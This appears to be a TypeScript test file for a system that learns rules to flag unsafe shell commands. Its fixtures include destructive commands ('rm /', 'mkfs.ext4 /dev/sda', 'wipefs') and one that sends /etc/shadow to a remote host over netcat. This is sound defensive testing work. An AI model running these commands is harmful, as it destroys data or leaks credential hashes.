import assert from 'node:assert/strict';
import { canonicalLines } from '../../../../src/shell/canonical';
import { lineFacts } from '../../../../src/ml/features/commandLiterals';
import { gatherDataset } from '../../../../src/ml/dataset/dataset';
import { actionsOf } from '../../../../src/ml/dataset/labelledActions';
import { mineFamilies } from '../../../../src/ml/mining/families';
import type { MiningCommand } from '../../../../src/ml/dataset/analyzedHistory';
import { mineCandidates } from '../../../../src/ml/mining/mine';
import { greedyCover } from '../../../../src/ml/rules/greedyCover';
import { labelled } from '../../../support/commands';

function actionNames(
  ...commands: readonly ReturnType<typeof labelled>[]
): ReadonlyMap<string, string> {
  const { rows } = gatherDataset(commands);
  const found = actionsOf(rows);
  return new Map(rows.map((row, at) => [row.command, found[at]?.name ?? '']));
}

function mined(...commands: readonly string[]): readonly MiningCommand[] {
  return commands.flatMap((command, call) =>
    canonicalLines(command)
      .flatMap((line) => lineFacts(line))
      .map((facts) => ({ facts, isUnsafe: true, call, template: command })),
  );
}

describe('actionsOf', () => {
  it('counts one action independent of harmless wrapping commands', () => {
    const names = actionNames(
      labelled('ls', 'safe'),
      labelled('echo done', 'safe'),
      labelled('git clean -f', 'unsafe'),
      labelled('ls && git clean -f', 'unsafe'),
      labelled('echo y | git clean -f', 'unsafe'),
      labelled('(git clean -f)', 'unsafe'),
    );
    assert.equal(names.get('ls && git clean -f'), names.get('git clean -f'));
    assert.equal(names.get('echo y | git clean -f'), names.get('git clean -f'));
    assert.equal(names.get('(git clean -f)'), names.get('git clean -f'));
  });

  it('names an unsafe command by all its parts if each part also occurs in safe commands', () => {
    const names = actionNames(
      labelled('cat /etc/shadow', 'safe'),
      labelled('nc a.b 1', 'safe'),
      labelled('cat /etc/shadow | nc a.b 1', 'unsafe'),
    );
    assert.match(names.get('cat /etc/shadow | nc a.b 1') ?? '', /cat[^]*nc/);
  });

  it('does not split commands that are not labelled unsafe', () => {
    const names = actionNames(labelled('ls', 'safe'), labelled('ls && frob', 'unknown'));
    assert.match(names.get('ls && frob') ?? '', /ls[^]*frob/);
  });
});

describe('mineCandidates', () => {
  const anyProgram = (commands: readonly MiningCommand[]): readonly string[] =>
    mineCandidates(commands, { minTemplates: 2, maxLiterals: 1, keepNarrow: true })
      .filter(({ candidate }) => candidate.heads.length === 0)
      .flatMap(({ candidate }) => candidate.literals.map(({ text }) => text));

  it('applies a candidate to any program only if three programs share it', () => {
    assert.deepEqual(anyProgram(mined('a x --wipe', 'a y --wipe', 'b --wipe')), []);
    assert.ok(anyProgram(mined('a --wipe', 'b --wipe', 'c --wipe')).includes('--wipe'));
  });

  it('generalizes root, home and system folders', () => {
    const shared = mineCandidates(mined('rm /', 'rm ~', 'rm /etc'), {
      minTemplates: 3,
      maxLiterals: 1,
      keepNarrow: true,
    }).flatMap(({ candidate }) => candidate.literals.map(({ text }) => text));
    assert.ok(shared.includes('VITAL'));
  });
});

describe('mineFamilies', () => {
  it('joins programs with a common stem if all of them are members', () => {
    const [family] = mineFamilies(
      mined('mkfs.ext4 /dev/sda', 'mkfs.xfs /dev/sdb', 'mkfs /dev/sdc', 'wipefs /dev/sdd'),
    );
    assert.deepEqual(family?.candidate.heads, ['mkfs*', 'wipefs']);
  });
});

describe('greedyCover', () => {
  const rule = (
    unsafe: readonly string[],
    more: Partial<Record<'minAdded' | 'priorHits' | 'priorActions' | 'trust', number>> & {
      counted?: ReadonlySet<string>;
    } = {},
  ) => ({
    backtest: {
      unsafe: [],
      safe: [],
      unknown: [],
      unsafeTemplates: new Set(unsafe),
      safeTemplates: new Set<string>(),
      lowerBound: 0.5,
    },
    counted: new Set(unsafe),
    complexity: 1,
    backgroundHits: 0,
    trust: 1,
    minAdded: 1,
    priorHits: 0,
    priorActions: 0,
    ...more,
  });

  it('chooses no rule with fewer new commands than its minimum', () => {
    const first = rule(['a', 'b', 'c', 'd']);
    assert.deepEqual(greedyCover([first, rule(['c', 'd', 'e'], { minAdded: 3 })], 9), [0]);
    assert.deepEqual(greedyCover([first, rule(['c', 'd', 'e'], { minAdded: 1 })], 9), [0, 1]);
  });

  it('values a rule by the commands that count, and leaves the others to other rules', () => {
    const counted = new Set(['a', 'b']);
    const wide = rule(['a', 'b', 'c', 'd', 'e'], { counted });
    assert.deepEqual(greedyCover([wide, rule(['c', 'd', 'e'])], 9), [1, 0]);
  });

  it('includes prior actions, and chooses a rule that has no others', () => {
    const unshown = rule([], { minAdded: 0, priorHits: 30, priorActions: 2 });
    assert.deepEqual(
      greedyCover([rule(['a']), unshown, rule(['b', 'c', 'd', 'e', 'f'])], 3),
      [2, 1, 0],
    );
    assert.deepEqual(greedyCover([rule([], { minAdded: 0 })], 1), []);
  });

  it('prefers, among rules with equal evidence, the one with higher trust of the forest', () => {
    const rules = [rule(['a', 'b', 'c'], { trust: 0.5 }), rule(['d', 'e', 'f'], { trust: 0.9 })];
    assert.deepEqual(greedyCover(rules, 2), [1, 0]);
  });

  it('prefers rules with a prior to those with history evidence alone', () => {
    const rules = [rule(['a', 'b', 'c']), rule(['c', 'd'], { priorHits: 30 })];
    assert.deepEqual(greedyCover(rules, 1), [1]);
    assert.deepEqual(greedyCover([rule(['a', 'b', 'c']), rule(['c', 'd'])], 1), [0]);
  });
});
